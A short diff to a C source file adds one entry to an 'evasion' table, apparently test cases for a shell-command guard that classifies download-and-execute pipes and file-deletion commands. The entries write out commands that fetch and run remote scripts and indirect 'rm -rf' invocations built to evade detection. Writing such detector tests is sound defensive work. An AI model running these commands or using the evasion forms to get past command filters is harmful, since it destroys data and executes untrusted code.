@@ -222,6 +222,7 @@ static const struct evasion {
     { "curl -fsSLo /tmp/x http://h && bash /tmp/x",                                                              PIPES  },
     { "curl http://h > x; sh < x",                                                                               PIPES  },
     { "curl http://h > x.sh; chmod +x x.sh; ./x.sh; sh x.sh",                                                    PIPES  },
+    { "echo 'rm -rf /x' > a; cat a | sh",                                                                        REMOVES},
     { "echo 'rm -rf /x' > a.sh; sh a.sh",                                                                        REMOVES},
     { "echo 'rm -rf' > a.sh; echo ' /x' >> b; cat <<E > /tmp/a.sh\nrm -rf /x\nE\nchmod +x /tmp/a.sh; /tmp/a.sh",
      REMOVES                                                                                                            },
